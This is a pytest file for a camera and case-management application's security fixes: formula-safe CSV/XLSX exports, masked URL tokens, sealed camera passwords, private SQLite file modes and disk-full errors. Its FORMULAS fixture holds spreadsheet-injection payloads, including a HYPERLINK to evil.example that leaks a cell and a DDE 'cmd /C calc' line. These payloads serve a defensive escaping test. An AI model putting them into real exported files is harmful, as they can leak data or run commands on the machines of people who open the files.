"""Issue 15, secrets and exports: formula-like text exported as text (case list, camera CSV,
KPI CSV, base data), secrets in a camera URL's query string masked wherever a URL is shown but
still used to play, camera passwords sealed at rest (AES-256-GCM, the key file outside the
database), the SQLite files private (0600), and a read-only or full disk said as such, with the
next write working once the disk is writable again."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import errno
import io
import json
import logging
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import create_engine, event, select, text, update

from commandcenter.access.accounts import demo_actor
from commandcenter.backend import LocalBackend
from commandcenter.backend.local import LocalCenter
from commandcenter.backend.transactions import write
from commandcenter.cameras import sealing
from commandcenter.cameras.csv_io import export_cameras_csv, import_cameras_csv
from commandcenter.cameras.registry import add_camera, load_camera, update_camera
from commandcenter.cameras.rows import camera_rows
from commandcenter.cameras.urls import display_url, restore_masked_query
from commandcenter.cases.export import export_cases_xlsx
from commandcenter.cases.rows import open_cases
from commandcenter.clock import ManualClock
from commandcenter.domain.changes import Changes, Outcome
from commandcenter.errors import StorageFull, StorageProblem, StorageReadOnly
from commandcenter.figures.kpi import KpiRow
from commandcenter.figures.kpi_table import csv_text
from commandcenter.keys import KEY_FILE_ENV, KeyFileProblem, write_new_keys
from commandcenter.storage import open_database
from commandcenter.storage.models import Camera, CameraCredential, Person
from commandcenter.tabular import csv_cell, is_formula_like
from commandcenter.video import Health, StreamRegistry, StreamWorker
from commandcenter.video.registry import database_credentials

try:  # tests/ as a package or as a plain folder on sys.path
    from .cli_runner import run_cli
    from .conftest import DEMO_NOW
    from .test_camera_registry import Site, camera, device
    from .test_video_rtsp import OPEN_S, Watch, live, start_server
    from .test_video_stream import FakeCamera
except ImportError:
    from cli_runner import run_cli
    from conftest import DEMO_NOW
    from test_camera_registry import Site, camera, device
    from test_video_rtsp import OPEN_S, Watch, live, start_server
    from test_video_stream import FakeCamera

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
]
PASSWORD = "Cam-Pw-7781!"
TOKEN = "tok3nVALUE-99f"
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def site(tmp_path):
    made = Site(f"sqlite:///{tmp_path / 'cameras.sqlite3'}")
    yield made
    made.database.dispose()


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def assert_no_live_formula(path: Path, texts: list[str]) -> None:
    """No <f> anywhere; each text is read back as it was, from a string cell with the quote
    prefix (Excel keeps it text when the cell is edited)."""
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    workbook = openpyxl.load_workbook(path)
    cells = {c.value: c for sheet in workbook for row in sheet.iter_rows() for c in row}
    for value in texts:
        assert value in cells, value
        assert cells[value].data_type == "s" and cells[value].quotePrefix, value


def csv_cells(text_: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_.lstrip("\ufeff"))))


# --- exports: text stays text ----------------------------------------------------------------


def test_the_one_rule_for_text_cells():
    for value in FORMULAS:
        assert is_formula_like(value) and csv_cell(value) == "'" + value
    for value in ["城东街道", "-3.5", "+8613800000000", "42", "50%", "-", "", "a=b"]:
        assert not is_formula_like(value) and csv_cell(value) == value
    assert csv_cell(7) == 7 and csv_cell(None) is None


def test_the_case_list_writes_formula_titles_as_text(demo_database, tmp_path):
    with demo_database.session() as session:
        rows = open_cases(session, demo_actor(session, "duty"), DEMO_NOW)[: len(FORMULAS)]
    rows = [dataclasses.replace(r, title=t) for r, t in zip(rows, FORMULAS, strict=True)]
    path = export_cases_xlsx(rows, tmp_path / "cases.xlsx", now=DEMO_NOW, title="=1+1")
    assert_no_live_formula(path, FORMULAS)
    sheet = openpyxl.load_workbook(path).active
    assert str(sheet["A1"].value).startswith("案件清单：=1+1")
    # numbers and dates stay what they were: the working hours left is a number
    hours = [sheet.cell(row=r, column=12).value for r in range(3, 3 + len(rows))]
    assert all(h is None or isinstance(h, int | float) for h in hours)
    assert any(isinstance(sheet.cell(row=3, column=c).value, dt.datetime) for c in (9, 10, 11))


def test_the_base_data_export_writes_formula_names_as_text(writable_demo, tmp_path):
    with writable_demo.session() as session, session.begin():
        ids = session.scalars(select(Person.id).order_by(Person.id).limit(2)).all()
        session.execute(update(Person).where(Person.id == ids[0]).values(name=FORMULAS[0][:50]))
        session.execute(update(Person).where(Person.id == ids[1]).values(name="@SUM(A1:A9)"))
    admin = LocalBackend(writable_demo, _actor(writable_demo, "admin"), ManualClock(DEMO_NOW))
    path = tmp_path / "people.xlsx"
    assert admin.export_basedata("people", path) > 2
    assert_no_live_formula(path, [FORMULAS[0][:50], "@SUM(A1:A9)"])


def _actor(database, username):
    with database.session() as session:
        return demo_actor(session, username)


def test_the_kpi_csv_writes_formula_names_as_text_and_numbers_as_numbers():
    row = KpiRow(
        by="grid", key=1, code="=1+1", name=FORMULAS[1], intake=5, closed=3, closure_rate=0.5
    )
    cells = csv_cells(csv_text([row]))
    values = dict(zip([h.split(" (")[-1].rstrip(")") for h in cells[0]], cells[1], strict=True))
    assert values["code"] == "'=1+1" and values["name"] == "'" + FORMULAS[1]
    assert values["intake"] == "5" and values["closure_rate"] == "50.00"
    assert not [c for line in cells for c in line if c.startswith(STARTS)]


def test_the_camera_csv_writes_formula_names_as_text_and_reads_them_back(site, tmp_path):
    camera_id = site.write(add_camera, camera(name=FORMULAS[0]))
    site.write(add_camera, camera(2, name="-2+3"))
    path = tmp_path / "cameras.csv"
    site.write(export_cameras_csv, path)
    cells = csv_cells(path.read_text(encoding="utf-8-sig"))
    names = [line[1] for line in cells[1:]]
    assert names == ["'" + FORMULAS[0], "'-2+3"]
    assert not [c for line in cells for c in line if c.startswith(STARTS)]
    # The file imported again gives the names as they were.
    site.write(import_cameras_csv, path, replace=True)
    row, _ = site.stored(device(1))
    assert row.id == camera_id and row.name == FORMULAS[0]


# --- secrets in a URL's query string ----------------------------------------------------------


@pytest.mark.parametrize(
    "url, shown, secrets",
    [
        (
            "rtsp://10.0.0.1/live?user=admin&password=se%26cret&channel=1",
            "rtsp://10.0.0.1/live?user=admin&password=***&channel=1",
            ["se&cret", "se%26cret"],
        ),
        ("rtsp://u:p@10.0.0.1:554/x?token=abc", "rtsp://10.0.0.1:554/x?token=***", ["abc"]),
        (
            "rtsp://10.0.0.1/x?pwd=k1&passwd=k2&key=k3",
            "rtsp://10.0.0.1/x?pwd=***&passwd=***&key=***",
            ["k1", "k2", "k3"],
        ),
        (
            "https://h/x.m3u8?auth=k4&signature=k5&X-Amz-Signature=k6",
            "https://h/x.m3u8?auth=***&signature=***&X-Amz-Signature=***",
            ["k4", "k5", "k6"],
        ),
        ("rtsp://10.0.0.1/x?channel=1&subtype=0", "rtsp://10.0.0.1/x?channel=1&subtype=0", []),
    ],
)
def test_display_url_masks_secrets_of_the_query_string(url, shown, secrets):
    masked = display_url(url)
    assert masked == shown
    assert not [secret for secret in secrets if secret in masked]
    # what an edit sends back (the shown form) gets the stored secrets again
    stored = url.replace("u:p@", "")
    assert restore_masked_query(masked, stored) == stored


def test_a_query_token_is_shown_nowhere_kept_for_playing_and_kept_by_an_edit(site, tmp_path):
    url = f"rtsp://10.0.0.1:554/live?channel=1&token={TOKEN}"
    camera_id = site.write(add_camera, camera(main_url=url, sub_url=url + "&subtype=1"))
    with site.database.session() as session:
        stored = session.get(Camera, camera_id)
        assert stored.main_url == url  # the stream needs it
        rows = camera_rows(session, site.actor())
        form = load_camera(session, site.actor(), camera_id)
    assert rows[0].main_url == url  # the wall plays from the row (same reach as the password)
    assert TOKEN not in display_url(rows[0].main_url) + display_url(rows[0].sub_url or "")
    assert TOKEN not in repr(form) and form.data.main_url.endswith("token=***")
    # the export and the command line's list show it masked
    path = tmp_path / "cameras.csv"
    site.write(export_cameras_csv, path)
    assert TOKEN not in path.read_text(encoding="utf-8-sig")
    listed = run_cli("cameras", "list", db=site.database.url)
    assert listed.returncode == 0 and "token=***" in listed.stdout and TOKEN not in listed.stdout
    # the edit form sends the shown URL back: the token is kept; a new one replaces it
    site.write(update_camera, camera_id, dataclasses.replace(form.data, name="改名"))
    with site.database.session() as session:
        assert session.get(Camera, camera_id).main_url == url
    site.write(update_camera, camera_id, camera(main_url=url.replace(TOKEN, "new-tok-1")))
    with site.database.session() as session:
        assert session.get(Camera, camera_id).main_url.endswith("token=new-tok-1")


class RecordingCamera(FakeCamera):
    """The fake camera (401 to DESCRIBE) keeping the URLs it was asked for."""

    def __init__(self):
        self.targets: list[str] = []
        super().__init__(401)

    def reply(self, method, target, headers):
        self.targets.append(target)
        return super().reply(method, target, headers)


def test_the_stream_sends_the_token_to_the_camera_and_shows_it_nowhere(caplog):
    caplog.set_level(logging.DEBUG)
    fake = RecordingCamera()
    worker = StreamWorker(fake.url(f"/live?token={TOKEN}"), name="gate", open_timeout_ms=2000)
    try:
        worker.start()
        deadline = time.monotonic() + 8
        while not any(TOKEN in t for t in fake.targets) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert any(TOKEN in t for t in fake.targets), fake.targets
        time.sleep(0.3)
        shown = repr(worker) + worker.url + worker.name + repr(worker.health()) + caplog.text
        assert TOKEN not in shown and "token=***" in worker.url
    finally:
        worker.stop(5)
        fake.close()


# --- camera passwords at rest ---------------------------------------------------------------


def raw_password(database, camera_id: int) -> str:
    with database.session() as session:
        return session.get(CameraCredential, camera_id).password


def test_a_camera_password_is_sealed_in_the_database_and_opens_for_the_stream(site, caplog):
    caplog.set_level(logging.DEBUG)
    camera_id = site.write(add_camera, camera(username="admin", password=PASSWORD))
    stored = raw_password(site.database, camera_id)
    assert stored.startswith(sealing.PREFIX) and PASSWORD not in stored
    site.database.dispose()  # everything on disk: the file and its WAL
    path = Path(site.database.url.split("sqlite:///", 1)[1])
    for part in (path, Path(f"{path}-wal")):
        if part.exists():
            assert PASSWORD.encode() not in part.read_bytes(), part
    assert database_credentials(site.database)(camera_id) == ("admin", PASSWORD)
    two = site.write(add_camera, camera(2, username="admin", password=PASSWORD))
    assert raw_password(site.database, two) != stored  # a random nonce per value
    assert PASSWORD not in caplog.text


def test_a_sealed_password_copied_to_another_camera_does_not_open(site):
    one = site.write(add_camera, camera(username="admin", password=PASSWORD))
    two = site.write(add_camera, camera(2, username="admin", password="other-pw-22"))
    with site.database.session() as session, session.begin():
        session.get(CameraCredential, two).password = raw_password(site.database, one)
    with pytest.raises(sealing.CredentialsUnreadable) as caught:
        database_credentials(site.database)(two)
    assert f"#{two}" in str(caught.value) and "key file" in str(caught.value)


def test_a_wrong_or_missing_key_file_is_said_with_its_name_never_an_empty_password(
    site, tmp_path, monkeypatch
):
    camera_id = site.write(add_camera, camera(username="admin", password=PASSWORD))
    other = tmp_path / "other-keys.json"
    write_new_keys(other)
    monkeypatch.setenv(KEY_FILE_ENV, str(other))
    # A console started with another key file (the database reads its keys once, at start).
    restarted = open_database(site.database.url, migrate=False)
    backend = LocalBackend(restarted, site.actor())
    with pytest.raises(sealing.CredentialsUnreadable) as caught:
        backend.camera_credentials(camera_id)
    assert str(other) in str(caught.value) and PASSWORD not in str(caught.value)
    # the stream worker reports it instead of trying without a password
    worker = StreamWorker(
        "rtsp://127.0.0.1:9/live", credentials=lambda: backend.stream_credentials()(camera_id)
    )
    worker._login()
    assert worker._diagnose() == (Health.UNAUTHORISED, str(caught.value))
    missing = tmp_path / "gone.json"
    monkeypatch.setenv(KEY_FILE_ENV, str(missing))
    restarted.dispose()
    restarted = open_database(site.database.url, migrate=False)
    with pytest.raises(KeyFileProblem, match=re.escape(str(missing))):
        LocalBackend(restarted, site.actor()).camera_credentials(camera_id)
    assert not missing.exists()  # a named key file is never made up
    restarted.dispose()


def test_old_plain_passwords_are_sealed_when_the_database_is_opened(site):
    one = site.write(add_camera, camera(username="admin", password=PASSWORD))
    two = site.write(add_camera, camera(2, username="admin"))
    with site.database.session() as session, session.begin():  # as written before sealing
        session.get(CameraCredential, one).password = PASSWORD
    assert database_credentials(site.database)(one) == ("admin", PASSWORD)  # still read
    url = site.database.url
    site.database.dispose()
    center = LocalCenter.open(url)
    try:
        assert raw_password(center.database, one).startswith(sealing.PREFIX)
        assert raw_password(center.database, two) == ""  # no password: nothing to seal
        assert database_credentials(center.database)(one) == ("admin", PASSWORD)
    finally:
        center.close()
    # ... and by the command, for a database no console opens
    database = open_database(url)
    with database.session() as session, session.begin():
        session.get(CameraCredential, one).password = PASSWORD
    database.dispose()
    done = run_cli("cameras", "seal", db=url)
    assert done.returncode == 0 and "Sealed" in done.stdout
    database = open_database(url)
    assert raw_password(database, one).startswith(sealing.PREFIX)
    database.dispose()


def test_a_registered_camera_plays_with_its_sealed_password(site):
    server = start_server(streams=1, width=320, height=180, fps=25, auth=("viewer", PASSWORD))
    try:
        url = f"{server.url(1)}?channel=1&token={TOKEN}"
        camera_id = site.write(add_camera, camera(main_url=url, username="viewer"))
        with site.database.session() as session, session.begin():
            sealing.store_password(session.get(CameraCredential, camera_id), PASSWORD)
        assert PASSWORD not in raw_password(site.database, camera_id)
        registry = StreamRegistry(database_credentials(site.database))
        try:
            worker = registry.acquire(camera_id, url, name="gate")
            Watch(worker).until(live, OPEN_S + 8, "live")
            assert TOKEN not in worker.url + repr(worker)
        finally:
            registry.stop_all(5)
    finally:
        server.stop()


# --- the SQLite files are private -------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sqlite_database_and_its_wal_and_shm_are_0600(tmp_path):
    folder = tmp_path / "new-folder"
    path = folder / "center.sqlite3"
    database = open_database(f"sqlite:///{path}")
    try:
        write(database, lambda s: Outcome(1, Changes(tours=True)), DEMO_NOW)
        for part in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
            assert part.exists() and mode(part) == 0o600, part
        assert mode(folder) == 0o700
    finally:
        database.dispose()


def test_an_existing_database_readable_by_others_is_made_private_on_open(tmp_path):
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as connection:  # made the old way: 0644 by the umask
        connection.execute("PRAGMA journal_mode=WAL")
        connection.execute("CREATE TABLE t (x)")
        held = sqlite3.connect(path)  # keeps the -wal and -shm
        held.execute("SELECT * FROM t").fetchall()
        for part in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
            os.chmod(part, 0o644)
        database = open_database(f"sqlite:///{path}")
        held.close()
    try:
        for part in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
            if part.exists():
                assert mode(part) == 0o600, part
    finally:
        database.dispose()


# --- a read-only or full disk -------------------------------------------------------------------

READ_ONLY_SCENARIO = textwrap.dedent(
    """
    import glob, json, os, sys
    from commandcenter.backend.transactions import write
    from commandcenter.clock import SYSTEM
    from commandcenter.domain.changes import Changes, Outcome
    from commandcenter.storage import open_database

    folder = sys.argv[1]
    path = os.path.join(folder, "center.sqlite3")
    database = open_database("sqlite:///" + path)
    said = []

    def attempt():
        try:
            write(database, lambda s: Outcome(1, Changes(tours=True)), SYSTEM.now(), "test")
            said.append("written")
        except Exception as error:
            said.append([type(error).__name__, str(error)])

    def disk(file_mode, folder_mode):
        for name in glob.glob(path + "*"):
            os.chmod(name, file_mode)
        os.chmod(folder, folder_mode)

    attempt()
    disk(0o400, 0o500)  # the disk read-only (its files and folder)
    database.engine.dispose()  # as after a restart: the file is opened again
    attempt()
    attempt()
    disk(0o600, 0o700)  # writable again
    attempt()
    print(json.dumps(said))
    """
)


def test_a_read_only_sqlite_disk_is_said_as_such_and_the_next_write_works_again():
    """File modes bind only an ordinary user: run as root, the scenario runs as nobody."""
    folder = tempfile.mkdtemp(prefix="cc-read-only-")
    command = [sys.executable, "-c", READ_ONLY_SCENARIO, folder]
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("run as root and no setpriv to become an ordinary user")
        os.chown(folder, 65534, 65534)
        command = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    root = str(Path(__file__).resolve().parents[1])
    environment = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([root, os.environ.get("PYTHONPATH", "")]),
        "COMMANDCENTER_DATA_DIR": os.path.join(folder, "data"),
        "HOME": folder,
    }
    try:
        done = subprocess.run(
            command, capture_output=True, text=True, timeout=120, env=environment, cwd=folder
        )
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    assert done.returncode == 0, done.stderr[-3000:]
    said = json.loads(done.stdout.strip().splitlines()[-1])
    assert said[0] == "written" and said[-1] == "written", said
    for refused in said[1:3]:
        assert refused[0] == "StorageReadOnly", said
        assert "read-only" in refused[1] and "not answering" not in refused[1]


def test_a_full_sqlite_disk_is_said_as_such_and_writes_work_once_there_is_room(tmp_path):
    database = open_database(f"sqlite:///{tmp_path / 'center.sqlite3'}")
    limit = {"pages": 0}

    @event.listens_for(database.engine, "begin")
    def disk_size(connection):  # the disk's room, as SQLite's page limit
        pages = limit["pages"] or 1_000_000_000
        connection.exec_driver_sql(f"PRAGMA max_page_count = {pages}")

    def many_changes():
        return write(
            database, lambda s: Outcome(1, Changes(cameras=frozenset(range(2000)))), DEMO_NOW
        )

    try:
        many_changes()
        with database.session() as session:
            limit["pages"] = session.execute(text("PRAGMA page_count")).scalar()
        with pytest.raises(StorageFull) as caught:
            many_changes()
        assert "full" in str(caught.value) and "nothing was changed" in str(caught.value)
        limit["pages"] = 0  # room again
        many_changes()
    finally:
        database.dispose()


@pytest.mark.postgres
def test_a_read_only_postgresql_database_is_said_as_such_and_recovers(pg_database_url):
    name = pg_database_url.rsplit("/", 1)[1]
    admin = create_engine(
        pg_database_url.rsplit("/", 1)[0] + "/postgres", isolation_level="AUTOCOMMIT"
    )
    database = open_database(pg_database_url)

    def change():
        return write(database, lambda s: Outcome(1, Changes(tours=True)), DEMO_NOW)

    try:
        change()
        with admin.connect() as connection:
            connection.execute(
                text(f'ALTER DATABASE "{name}" SET default_transaction_read_only = on')
            )
        database.engine.dispose()
        with pytest.raises(StorageReadOnly):
            change()
        with admin.connect() as connection:
            connection.execute(text(f'ALTER DATABASE "{name}" RESET default_transaction_read_only'))
        change()
    finally:
        database.dispose()
        admin.dispose()


def test_a_full_disk_under_an_export_is_said_as_such(site):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    site.write(add_camera, camera())
    with pytest.raises(StorageFull, match="full"):
        site.write(export_cameras_csv, "/dev/full")


def test_the_server_and_the_console_word_a_full_or_read_only_disk(english_ui):
    import httpx

    from commandcenter.backend.remote import _raise_for
    from commandcenter.server.app import error_response

    for error in (StorageFull("the disk is full"), StorageReadOnly("read-only")):
        answer = error_response(error)
        assert answer.status_code == 507
        body = json.loads(answer.body)
        with pytest.raises(type(error)):
            _raise_for(httpx.Response(answer.status_code, json=body))
    from ui.common.errors import message_for

    assert "read-only" in message_for(StorageReadOnly("x")).text
    assert "full" in message_for(StorageFull("x")).text
    assert "full" in message_for(OSError(errno.ENOSPC, "No space left on device")).text
    assert "not answering" not in message_for(StorageProblem("x")).text
